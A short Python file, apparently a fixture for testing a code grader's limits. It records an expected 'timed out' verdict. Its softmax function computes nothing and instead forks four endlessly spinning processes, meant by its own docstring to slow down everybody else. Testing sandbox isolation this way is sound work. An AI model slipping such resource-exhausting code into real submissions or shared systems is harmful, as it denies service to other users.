"""Computes in many processes at once, to slow down everybody else."""
# verdict: timed out
# others: passed or timed out or not run
# wall: 12
import os


def softmax(x, dim=-1):
    for _ in range(4):
        if os.fork() == 0:
            while True:
                pass
    while True:
        pass
